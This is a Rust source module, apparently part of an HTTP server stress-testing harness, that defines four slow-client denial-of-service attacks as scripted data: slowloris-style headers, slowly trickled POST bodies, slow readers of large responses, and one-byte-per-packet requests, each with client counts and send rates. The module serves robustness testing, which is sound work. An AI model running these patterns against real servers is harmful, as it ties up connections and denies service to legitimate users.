//! Clients that are slow, so that each holds its connection, and what the server keeps for it, for as long as it may.

use std::borrow::Cow;

use super::{Attack, Move, Reads, send, send_all};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "slow-head",
        does: "a head that gets one more field now and then, and never its end",
        origin: "slowloris (2009); slowhttptest -H",
        clients: 512,
        moves_per_s: 4_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            vec![vec![
                send("GET /pipeline HTTP/1.1\r\nHost: a\r\n"),
                Move::Pause(250),
                send("X-a: b\r\n"),
                Move::Repeat(1),
            ]]
        },
    },
    Attack {
        name: "slow-body",
        does: "content of which a byte comes now and then, with a length or in chunks",
        origin: "R-U-Dead-Yet (2010); slowhttptest -B",
        clients: 512,
        moves_per_s: 4_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            let length = "POST /baseline11 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n";
            let chunked = "POST /upload HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
            let slow =
                |head, piece| vec![send(head), Move::Pause(250), send(piece), Move::Repeat(1)];
            vec![slow(length, "1"), slow(chunked, "1\r\nx\r\n")]
        },
    },
    Attack {
        name: "slow-reader",
        does: "large answers of which some bytes are read now and then, over the smallest window",
        origin: "slowhttptest -X (2012); sockstress, CVE-2008-4609",
        clients: 1_500,
        moves_per_s: 20_000,
        reads: Reads::Nothing,
        descriptors: None,
        scripts: || {
            let document = "GET /json/50?m=1 HTTP/1.1\r\nHost: a\r\n\r\n";
            vec![vec![
                send_all(document.repeat(64)),
                Move::Pause(250),
                Move::Sip(16),
                Move::Repeat(1),
            ]]
        },
    },
    Attack {
        name: "byte-per-packet",
        does: "requests of which every byte comes in a packet of its own",
        origin: "the smallest segments (TCP_NODELAY)",
        clients: 256,
        moves_per_s: 20_000,
        reads: Reads::All,
        descriptors: None,
        scripts: || {
            let request = "POST /baseline11?a=1 HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n10";
            vec![vec![
                Move::Drip(Cow::Borrowed(request.as_bytes()), 5),
                Move::Await,
                Move::Repeat(0),
            ]]
        },
    },
];
